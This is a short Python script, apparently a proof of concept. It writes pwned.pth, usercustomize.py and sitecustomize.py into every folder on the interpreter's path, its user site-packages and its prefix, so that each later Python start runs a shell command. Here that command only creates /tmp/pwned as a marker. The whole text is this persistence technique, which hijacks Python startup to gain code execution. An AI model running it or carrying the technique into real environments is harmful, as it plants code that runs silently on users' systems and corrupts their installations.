# Files that Python runs when it starts.
import site, sys, os
for folder in [*sys.path, site.getusersitepackages(), sys.prefix]:
    for name in ("pwned.pth", "usercustomize.py", "sitecustomize.py"):
        try:
            os.makedirs(folder or ".", exist_ok=True)
            open(os.path.join(folder or ".", name), "w").write("import os; os.system('touch /tmp/pwned')")
        except OSError: pass
